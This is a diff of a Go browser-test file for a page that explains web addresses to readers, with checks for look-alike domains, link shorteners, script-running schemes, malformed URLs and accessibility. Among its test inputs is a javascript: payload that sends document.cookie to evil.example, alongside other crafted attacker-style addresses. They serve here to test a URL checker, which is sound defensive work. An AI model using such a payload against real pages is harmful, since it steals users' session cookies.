@@ -110,8 +110,9 @@ func testFiles(t *testing.T, files map[string][]byte) {
 	}
 }
 
-// jargon asks whether what a person reads first has a word that not everybody knows.
-const jargon = `/\b(base|origin|URI|normal|reference)\b/i.test(all("header, form, #verdict").map(e => e.innerText))`
+// misleads asks whether what a person reads first has a word that not everybody knows, or says that all is well.
+const misleads = `/\b(base|origin|URI|normal|reference|reads the same|to warn)\b/i.test(
+	all("header, form, #verdict").map(e => e.innerText))`
 
 // What the page shows at CSS selectors: the visible texts there, joined by " | ".
 type shown map[string]string
@@ -131,7 +132,6 @@ const (
 	leftOut   = "#display .note"
 	changed   = "#forms mark"
 	columns   = "#readers th"
-	same      = "the same text"
 )
 
 // The verdict, with its level before it, and what else is special about a text.
@@ -154,12 +154,11 @@ func testAnswers(p *tab) {
 			shown{rules: "look-alike", "#display bdi": "https://xn--80ak6aa92e.com/"}},
 		{"https://XN--80AK6AA92E.com/", "", "warning: Leads to xn--80ak6aa92e.com xn--80ak6aa92e stands for аррӏе, " +
 			"which can look like another name: а, р, ӏ, е are not Latin letters. Not checked: whose name this is, ", nil},
-		{"https://xn--exmple-4nf.com/", "", "warning: Leads to xn--exmple-4nf.com xn--exmple-4nf stands for exаmple, " +
-			"which can look like another name: а is not a Latin letter. ", nil},
 		{"https://paypa1.com", "", "fine: Leads to paypa1.com In paypa1, 1 is a digit, not a letter. Not checked: ", nil},
 		{"https://2001.h10.example/", "", "fine: Leads to 2001.h10.example Nothing odd ", nil},
 		{"https://bit.ly/x", "", "warning: Leads to bit.ly, which hides where it leads next Not checked: ", nil},
 		{"https://bit.ly/", "", "fine: Leads to bit.ly Nothing", nil},
+		{"bit.ly/x", "", "warning: Perhaps bit.ly is meant, which hides where it leads next ", nil},
 		{"https://例え.jp/カフェ?席=2", "", "fine: Leads to 例え.jp Nothing odd",
 			shown{formsOf: "https://xn--r8jz45g.jp/%E3%82%AB%E3%83%95%E3%82%A7?%E5%B8%AD=2 | https://xn--r8jz45g.jp"}},
 		{"https://xn--r8jz45g.jp/", "", "fine: Leads to 例え.jp Nothing odd", shown{spelling: ""}},
@@ -173,11 +172,10 @@ func testAnswers(p *tab) {
 				notes: " | the same text | none: userinfo: ", leftOut: "Left out: what stands before the @."}},
 		{"http:///evil.example/login", "", "error: This browser goes to evil.example",
 			shown{rules: "http-host", places: "‸", different: "host | path"}},
-		{"https://a.example:99999/", "", "error: This browser rejects this address 1 error.",
-			shown{columns: "", places: "99999"}},
+		{"https://a.example:99999/", "", "error: This browser rejects this address 1 error.", shown{places: "99999"}},
 		{"https://xn--a/", "", "warning: Leads to xn--a xn--a stands for no name. ", nil},
-		{"urn:isbn:0451450523", "", "fine: Names no site: it begins with urn:", shown{notes: same + " | " + same}},
-		{"ftp://a.example/", "", "fine: Names the host a.example, for programs that know ftp: Nothing odd", nil},
+		{"urn:isbn:0451450523", "", "fine: Names no site: it begins with urn: Nothing odd", shown{changed: ""}},
+		{"ssh://" + strings.Repeat("例", 9) + "/", "", "fine: Names the host 例", nil}, // DNS has no say here
 		{"data:text/html,x", "", "error: Can run a program: data:", nil},
 		{"https://" + strings.Repeat("a.", 60) + "b/", "", "fine: Leads to " + strings.Repeat("a.", 60) + "b ", nil},
 		{"https://" + strings.Repeat("a", 64) + ".example/", "", "error: No host has a name so long", nil},
@@ -190,22 +188,20 @@ func testAnswers(p *tab) {
 		{"https://a.example/?x=%E2%80%8B&y=%E2%80%8B", "", "warning: Leads to a.example 2 warnings.",
 			shown{"#parts > .findings b": "warning × 2", rules: "encoded-invisible"}},
 		// What people type.
-		{"www.example.com", "", "fine: Perhaps www.example.com is meant Without https:// in front, it is a ",
+		{"www.example.com", "", "fine: Perhaps www.example.com is meant Without https:// in front, it ",
 			shown{offered: "https://www.example.com", edits: "https:// is inserted",
 				columns: "Part | Package iri, with a scheme | This browser | Difference", spelling: "path"}},
 		{"", "", ": Type or paste an address above, or choose an example.", nil},
-		{"../map", "", "warning: Leads nowhere by itself Without https:// in front, ",
-			shown{offered: "", columns: ""}},
+		{"../map", "", "warning: Leads nowhere by itself Without https:// in front, ", shown{offered: "", columns: ""}},
 		{"example.com:8080/x", "", "warning: Names no site: it begins with example.com:",
 			shown{offered: "https://example.com:8080/x"}},
 		// Invalid texts: all mistakes, what the browser reads, and a repair.
 		{`javascript:fetch("https://evil.example/"+document.cookie)`, "",
 			"error: Can run a program: javascript: 2 mistakes. 1 warning.",
-			shown{offered: "javascript:fetch(%22https://evil.example/%22+document.cookie)", notes: same + " | " + same,
-				places: `" | "`, ".offer .findings code": "scheme-active"}},
+			shown{offered: "javascript:fetch(%22https://evil.example/%22+document.cookie)",
+				notes: "the same text | the same text", places: `" | "`, ".offer .findings code": "scheme-active"}},
 		{"java\tscript:alert(1)", "", "error: Can run a program: javascript: 1 mistake.", shown{edits: "U+0009 is removed"}},
-		{"https://exa mple.com:80a/<b>?q=[1]|2#x#y", "",
-			"error: Not valid: it leads nowhere 8 mistakes.",
+		{"https://exa mple.com:80a/<b>?q=[1]|2#x#y", "", "error: Not valid: it leads nowhere 8 mistakes.",
 			shown{places: "space | 80a | < | > | [ | ] | | | #", columns: "", offered: ""}},
 		{"https://[1.2.3.4]/", "", "error: Not valid", shown{places: "[1.2.3.4]"}},
 		{"https://[::1", "", "error: Not valid", shown{places: "[::1"}},
@@ -218,14 +214,15 @@ func testAnswers(p *tab) {
 		// What browsers repair in the same way is not red.
 		{"a b/[x]|y?q=100%", "", "warning: Leads nowhere by itself 5 small mistakes. Without https:// in front, ",
 			shown{".broken": "", minor: "5 minor findings", offered: "a%20b/%5Bx%5D%7Cy?q=100%25"}},
+		{`/\evil.example`, "", "error: Leads nowhere by itself 1 mistake.", nil},
+		{`https://a.example/?q=\`, "", "warning: Leads to a.example 1 small mistake, ", nil},
 		{"a b/[x]|y?q=100%", "https://a.example/", "warning: Leads to a.example 5 small mistakes, which ", nil},
 		{"https://example.com/my file?filter[x]=1 ", "",
 			"warning: Leads to example.com 4 small mistakes, which browsers repair. Not checked: ",
 			shown{edits: "space becomes %20 | [ becomes %5B | ] becomes %5D | space is removed",
-				columns:        "Part | Package iri, repaired | This browser | Difference",
-				"#forms-title": "Other forms, repaired, for programs"}},
+				columns: "Part | Package iri, repaired | This browser | Difference"}},
 		{"www.example.com/a b", "", "warning: Perhaps www.example.com is meant 1 small mistake.",
-			shown{edits: "https:// is inserted | space becomes %20"}},
+			shown{edits: "https:// is inserted | space becomes %20", "#forms-title": "Other forms, repaired, for programs"}},
 		// A base.
 		{"../map?zoom=3#here", "https://example.com/menu/today", "fine: Leads to example.com Read as a link in the page ",
 			shown{names: "path | query | fragment | scheme | host | path | query | fragment",
@@ -260,8 +257,8 @@ func testAnswers(p *tab) {
 			!eval[bool](p, `URL.canParse($("text").value, $("base").value || undefined)`)) {
 			p.Errorf("%.80q: %q, but %v, %v", row.text, got, err, none)
 		}
-		if eval[bool](p, jargon) {
-			p.Errorf("%.80q: jargon in what a person reads first: %q", row.text, got)
+		if eval[bool](p, misleads) {
+			p.Errorf("%.80q: what a person reads first misleads: %q", row.text, got)
 		}
 		for selector, want := range row.want {
 			got := p.text(`all(` + quote(selector) + `).filter(e => e.checkVisibility()).map(e => e.textContent.trim())
@@ -375,10 +372,11 @@ func testHostile(p *tab) {
 // The page loads its own files only, and the browser would stop anything else.
 func testElsewhere(p *tab) {
 	p.enter("https://other.example/x.png", "https://other.example/")
-	names := eval[[]string](p,
-		`performance.getEntriesByType("resource").map(e => e.name.slice(document.baseURI.lastIndexOf("/") + 1)).sort()`)
-	if want := []string{"page.css", "page.js", "page.wasm-gz", "wasm_exec.js"}; !slices.Equal(names, want) {
-		p.Errorf("the page loads %q, want %q", names, want)
+	p.run(`fetch("page.js?last").then(r => r.text())`)
+	const names = `performance.getEntriesByType("resource").map(e => e.name.split("/").at(-1)).sort().join()`
+	p.wait(names + `.includes("last")`)
+	if got := p.text(names); got != "page.css,page.js,page.js?last,page.wasm-gz,wasm_exec.js" {
+		p.Errorf("the page loads %s", got)
 	}
 	asked := false
 	other := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked = true }))
@@ -473,6 +471,11 @@ func testLong(p *tab) {
 			p.Errorf("%.50q: %q are cut, want %q", text, got, want)
 		}
 	}
+	p.enter("HTTPS://example.com/"+strings.Repeat("a", 200), "")
+	p.as(narrow, 800, false) // in the wider window, it is not cut
+	p.wait(`document.querySelector("#display .more") !== null`)
+	p.run(`$("forms-section").open = true`)
+	p.wait(`document.querySelector("#forms .more") !== null`)
 }
 
 // Everything can be reached and read with the keyboard.
@@ -539,7 +542,7 @@ func testNarrow(p *tab) {
 			}
 		}
 	}
-	for _, host := range []string{strings.Repeat("label.", 25) + strings.Repeat("w", 63), strings.Repeat("例", 15)} {
+	for _, host := range []string{strings.Repeat("a-label.", 22) + strings.Repeat("w", 63), strings.Repeat("例", 15)} {
 		p.enter("https://"+host+"/", "")
 		if got := p.text(`document.documentElement.scrollWidth + all("#status .label").map(e =>
 			e.getClientRects().length === 1 ? e.textContent : "a label that breaks").join("")`); got != "360"+host {
@@ -578,7 +581,7 @@ func testAxe(p *tab) {
 				"https://xn--80ak6aa92e.com/", "a b/[x]|y", "https://user:s3cret@example.com/?access_token=S3CRET",
 				"http://good.example;.evil.example/", "HTTPS://a.example@0x7f.1:8/a%2fb?a=%20\u200b#b", "", "#",
 				"https://example.com/" + strings.Repeat("a", 6000)} {
-				p.enter(text, "1")
+				p.enter(text, text)
 				p.run(`$("link").click(), all("details").forEach(e => { e.open = true; })`)
 				for _, f := range eval[[]string](p,
 					`axe.run().then(r => r.violations.map(v => v.impact + ": " + v.id + ": " + v.nodes.map(n => n.html).join(" ")))`) {
